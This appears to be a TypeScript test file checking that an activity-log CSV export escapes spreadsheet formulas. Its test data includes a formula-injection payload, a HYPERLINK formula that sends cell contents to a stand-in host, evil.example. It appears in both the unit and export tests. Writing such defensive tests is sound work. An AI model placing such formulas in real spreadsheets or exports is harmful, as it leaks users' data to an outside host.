// Export the audit (issue 13 §3): the activity log as CSV through the API, every entry, with
// formula-like values neutralised so a spreadsheet shows them as text.
import { afterEach, describe, expect, it } from 'vitest';
import { appInsert, appUpdate, removeDir, setupPair, syncAndWait, type Kit } from '../sync/test-kit.fixture';
import { csvCell } from './csv';

describe('csvCell', () => {
  it('puts an apostrophe before every formula start (=, +, -, @, tab, CR) and quotes what CSV needs quoted', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", '"\'\rx"']);
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csvCell('plain, with comma')).toBe('"plain, with comma"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
  });
});

describe('activity/export', () => {
  let kit: Kit | null = null;
  let dir = '';
  afterEach(async () => {
    await kit?.close();
    kit = null;
    removeDir(dir);
  });

  it('exports every activity entry of the pair as CSV, naming the apps, with formulas escaped', async () => {
    const s = await setupPair();
    kit = s.kit;
    dir = s.dir;
    const id = appInsert(s.left, { email: 'ann@example.com', name: 'Ann', score: 1 });
    await syncAndWait(kit, s.pairId);
    appUpdate(s.left, id, { name: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
    await syncAndWait(kit, s.pairId);
    const logged = await kit.call('activity/list', { pairId: s.pairId, limit: 1000 });
    const out = await kit.call('activity/export', { pairId: s.pairId });
    expect(out.rows).toBe(logged.length);
    expect(out.fileName).toMatch(/^concord-activity-Contacts-\d{4}-\d{2}-\d{2}\.csv$/);
    const lines = out.csv.split('\r\n');
    expect(lines[0]).toBe('When,Record,App,Action,Field,Overwritten value,New value,Reason,Run,Restorable');
    expect(lines).toHaveLength(logged.length + 2); // header, the entries, and the empty string after the last CRLF
    const edit = lines.find((l) => l.includes('HYPERLINK'));
    expect(edit).toContain('Billing,updated,name,Ann,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    // No cell of the file starts a formula.
    for (const line of lines) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('says which pair it does not know', async () => {
    const s = await setupPair();
    kit = s.kit;
    dir = s.dir;
    await expect(kit.call('activity/export', { pairId: 'nope' })).rejects.toThrow(/not-found/);
  });
});
